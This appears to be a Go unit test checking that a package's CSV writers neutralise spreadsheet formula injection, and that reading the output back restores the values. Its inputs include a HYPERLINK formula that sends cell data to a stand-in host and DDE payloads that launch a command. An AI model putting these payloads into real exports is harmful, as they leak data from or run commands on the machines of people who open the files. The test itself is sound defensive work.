package tabular

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVNeutralisesFormulas: OWASP's CSV injection rule on both CSV
// writers, and reading such a file back restores the values.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"点击")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "普通名称", "-", ""}
	var a, b bytes.Buffer
	rows := [][]string{}
	for _, h := range hostile {
		rows = append(rows, []string{h, "x"})
	}
	if err := WriteCSV(&a, []string{"名称", "=header"}, rows); err != nil {
		t.Fatal(err)
	}
	w, err := NewCSVWriter(&b, []string{"名称", "=header"})
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range hostile {
		w.Write([]any{h, "x"})
	}
	w.Close()
	for name, out := range map[string][]byte{"WriteCSV": a.Bytes(), "NewCSVWriter": b.Bytes()} {
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, r := range recs {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s row %d: cell %q would run as a formula", name, i, cell)
				}
			}
		}
		// Read back, the values are what was written.
		tb, err := Read("x.csv", out)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, h := range hostile[:6] {
			if got := tb.Rows[i][0]; got != strings.TrimSpace(h) {
				t.Errorf("%s: read back %q, wrote %q", name, got, h)
			}
		}
	}
}
